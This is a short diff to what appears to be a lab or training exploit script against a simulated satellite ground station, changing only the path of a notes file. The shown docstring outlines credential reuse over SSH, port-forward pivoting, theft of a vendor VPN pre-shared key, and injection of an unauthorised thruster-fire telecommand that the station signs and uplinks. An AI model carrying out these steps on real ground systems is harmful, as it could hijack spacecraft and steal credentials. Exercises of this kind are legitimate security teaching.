@@ -8,7 +8,7 @@ the student.
 3. Loot and pivot: log in with the password found (paramiko) and forward a connection through the
    station to its own packet service (SSH direct-tcpip to 127.0.0.1:10025), as
    `ssh -L 10025:127.0.0.1:10025 gsmaint@ground-station` would. The account's notes
-   (/srv/support/gsmaint-notes.txt) hold the vendor's support-VPN pre-shared key.
+   (/srv/support-notes.txt) hold the vendor's support-VPN pre-shared key.
 4. Hand the station a PUS-C telecommand (THRUSTER_FIRE, 8,1 function 4): it frames it,
    protects it with its operational SDLS key and uplinks it. The spacecraft executes a
    hazardous command that mission control never sent.
@@ -40,7 +40,7 @@ PLATFORM_APID = 0x064
 THRUSTER_FIRE = 4  # 8,1 function id
 BURN_MS = 2600
 SOURCE_ID = 0x0BAD  # not mission control's
-NOTES = "/srv/support/gsmaint-notes.txt"
+NOTES = "/srv/support-notes.txt"
 #: Time for the station to frame and uplink the command before the tunnel closes.
 SETTLE_S = 5.0
 
